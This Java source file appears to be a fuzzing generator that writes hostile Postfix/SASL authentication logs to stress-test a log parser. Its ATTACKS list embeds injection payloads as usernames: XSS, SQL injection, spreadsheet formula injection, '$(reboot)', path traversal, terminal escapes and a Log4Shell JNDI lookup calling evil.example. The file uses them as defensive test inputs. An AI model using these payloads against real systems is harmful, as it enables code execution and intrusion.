package saslscope.storm;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDateTime;
import java.time.format.DateTimeFormatter;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Writes logs as an enemy would: {@code java saslscope.storm.HostileLoad KIND COUNT SEED FILE}. The same arguments give the
 * same bytes.
 */
public final class HostileLoad {
    private static final DateTimeFormatter STAMP = DateTimeFormatter.ofPattern("MMM dd HH:mm:ss", Locale.ENGLISH);
    private static final LocalDateTime START = LocalDateTime.of(2026, 11, 20, 3, 0);

    /** What an enemy may do. */
    public enum Kind {
        /** Every attempt from another client, with another name, by another process. */
        DISTINCT,
        /** The same with sessions that never end. */
        ENDLESS,
        /** Names and other fields of many kilobytes. */
        LONG_FIELDS,
        /** Lines of 10 MB. */
        LONG_LINES,
        /** One line, no newline. */
        ONE_LINE,
        /** Zeros between lines. */
        ZEROS,
        /** Any bytes. */
        NOISE,
        /** Names that imitate log lines, or attack whoever shows them. */
        FORGED,
        /** Another host, program, zone and time in every line. */
        HEADERS,
        /** Helper and verifier lines that no attempt follows. */
        HELPERS,
        /** As many lines of kilobytes as an attempt can have, of every kind, by processes that come and never end. */
        LONG_HELPERS,
        /** Sessions whose verdict a verifier explains, thousands within a second. */
        VERIFIED
    }

    private static final List<String> ATTACKS = List.of(
        "\u001b[2J\u001b]0;pwned\u0007", "\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007", "\u009b31m", "\u202egnp.exe\u202c", "\u2066x\u2069",
        "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tx", "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>", "user:* OR *:*", "[1 TO 9]", "a\\", "\"", "x, sasl_username=root", "x]: SASL LOGIN authentication failed: x",
        "x: Connection refused", "postfix/smtpd[1]: warning: unknown[192.0.2.99]: SASL PLAIN authentication failed: authentication failure",
        "message repeated 1000000 times: [ x]", "last message repeated 1000000 times", "%n%s%x", "$(reboot)", "`id`", "../../etc/passwd", "\r\nNov 20",
        "a\u0000b", "\ufeffx", "\ud800", "e\u0301\u0301\u0301", "{\"a\":1}", "'; DROP TABLE users; --", "${jndi:ldap://evil.example/a}");

    private final Random random;
    private final OutputStream out;
    private LocalDateTime time = START;
    private int lines;

    private HostileLoad(long seed, OutputStream out) {
        this.random = new Random(seed);
        this.out = out;
    }

    public static void main(String[] args) throws IOException {
        write(Kind.valueOf(args[0].toUpperCase(Locale.ROOT).replace('-', '_')), Integer.parseInt(args[1]), Long.parseLong(args[2]), Path.of(args[3]));
    }

    /** Writes a log; what {@code count} counts differs: attempts, or long lines, or MB of junk. */
    public static void write(Kind kind, int count, long seed, Path file) throws IOException {
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 16)) {
            HostileLoad load = new HostileLoad(seed, out);
            for (int i = 0; i < count; i++) {
                load.one(kind, i);
            }
            if (kind != Kind.ONE_LINE) {
                load.text("\n");
                load.failure(1, "192.0.2.1", "PLAIN", "the-last");
            }
        }
    }

    private void one(Kind kind, int n) throws IOException {
        switch (kind) {
            case DISTINCT -> {
                session(n, 2 + n % 4_000_000, client(n), random.nextInt(8) == 0 ? "user" + n + "@d" + n + ".example" : "user" + n);
                if (random.nextInt(50) == 0) {
                    accepted(n % 4_000_000, client(n), "user" + n);
                }
            }
            case ENDLESS -> {
                line("postfix/submission/smtpd", n, "connect from unknown[" + client(n) + "]");
                failure(n, client(n), "LOGIN", "user" + n);
            }
            case LONG_FIELDS -> session(n, 2 + n, client(n), n + "u".repeat(2_000 + random.nextInt(6_000)) + (random.nextBoolean() ? "@r" + "r".repeat(4_000) : ""));
            case LONG_LINES -> failure(n, client(n), "PLAIN", "x".repeat(10 << 20));
            case ONE_LINE -> text("postfix/smtpd[1]: warning: SASL ".repeat(32 << 10));
            case ZEROS -> {
                out.write(new byte[1 << 20]);
                if (random.nextInt(4) == 0) {
                    text("\n");
                    failure(n, client(n), "PLAIN", "after-zeros" + n);
                }
            }
            case NOISE -> {
                byte[] noise = new byte[1 << 16];
                random.nextBytes(noise);
                out.write(noise);
                for (int i = 0; i < 100; i++) {
                    byte[] part = Arrays.copyOf(noise, random.nextInt(60));
                    line(i % 2 == 0 ? "postfix/smtpd" : "saslauthd", random.nextInt(99_999), "warning: SASL authentication " + new String(part, StandardCharsets.ISO_8859_1));
                }
            }
            case FORGED -> session(n, 2 + n, client(n), ATTACKS.get(n % ATTACKS.size()) + n);
            case HEADERS -> text(STAMP.format(tick()) + " host" + n + " program" + n + "/smtpd[" + n + "]: warning: unknown[" + client(n)
                + "]: SASL PLAIN authentication failed: reason " + n + "\n");
            case HELPERS -> {
                line("postfix/smtpd", n, "warning: SASL authentication failure: helper " + n + " " + "x".repeat(random.nextInt(500)));
                line("saslauthd", 7, "do_auth         : auth failure: [user=u" + n + "] [service=smtp] [realm=r" + n + "] [mech=pam] [reason=PAM auth error]");
                line("auth", n, "pam_unix(smtp:auth): authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=  user=u" + n);
            }
            case LONG_HELPERS -> {
                String text = "x".repeat(4_000);
                for (int i = 0; i < 8; i++) {
                    line("postfix/smtpd", n, "warning: SASL authentication failure: " + text);
                    line("postfix/smtpd", n, "< unknown[" + client(n) + "]: AUTH PLAIN " + text);
                    line("saslauthd", n, "pam_unix(smtp:auth): authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=  user=" + text);
                    line("dovecot", n, "auth: Debug: client in: AUTH#011" + n + "#011PLAIN#011service=smtp#011rip=" + client(n) + "#011x=" + text);
                }
                if (n % 4 == 0) {
                    line("postfix/smtpd", n, "warning: unknown[" + client(n) + "]: SASL LOGIN authentication aborted");
                }
            }
            case VERIFIED -> {
                line("postfix/submission/smtpd", n, "connect from unknown[" + client(n) + "]");
                line("saslauthd", 7, "do_auth         : auth failure: [user=v" + n + "] [service=smtp] [realm=] [mech=pam] [reason=PAM auth error]");
                failure(n, client(n), "PLAIN", "user" + n);
                line("postfix/submission/smtpd", n, "disconnect from unknown[" + client(n) + "] ehlo=1 auth=0/1 quit=1 commands=2/3");
            }
        }
    }

    private void session(int n, int pid, String client, String user) throws IOException {
        String mechanism = List.of("PLAIN", "LOGIN", "CRAM-MD5", "DIGEST-MD5").get(n % 4);
        line("postfix/submission/smtpd", pid, "connect from unknown[" + client + "]");
        if (n % 3 == 0) {
            line("postfix/submission/smtpd", pid, "warning: SASL authentication failure: Password verification failed");
        }
        failure(pid, client, mechanism, user);
        line("postfix/submission/smtpd", pid, "disconnect from unknown[" + client + "] ehlo=1 auth=0/1 quit=1 commands=2/3");
    }

    private void accepted(int pid, String client, String user) throws IOException {
        line("postfix/submission/smtpd", pid, "A" + lines + ": client=unknown[" + client + "], sasl_method=PLAIN, sasl_username=" + user);
    }

    private void failure(int pid, String client, String mechanism, String user) throws IOException {
        line("postfix/submission/smtpd", pid, "warning: unknown[" + client + "]: SASL " + mechanism
            + " authentication failed: authentication failure, sasl_username=" + user);
    }

    private void line(String tag, int pid, String message) throws IOException {
        text(STAMP.format(tick()) + " mail " + tag + "[" + pid + "]: " + message + "\n");
    }

    /** Bursts: thousands of lines carry one second. */
    private LocalDateTime tick() {
        if (++lines % 5_000 == 0 || random.nextInt(200) == 0) {
            time = time.plusSeconds(1);
        }
        return time;
    }

    private void text(String text) throws IOException {
        out.write(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String client(int n) {
        return n % 2 == 0 ? "10." + (n >> 17 & 255) + "." + (n >> 9 & 255) + "." + (n >> 1 & 255)
            : "2001:db8:" + Integer.toHexString(n >> 16) + ":" + Integer.toHexString(n & 65535) + "::7";
    }
}
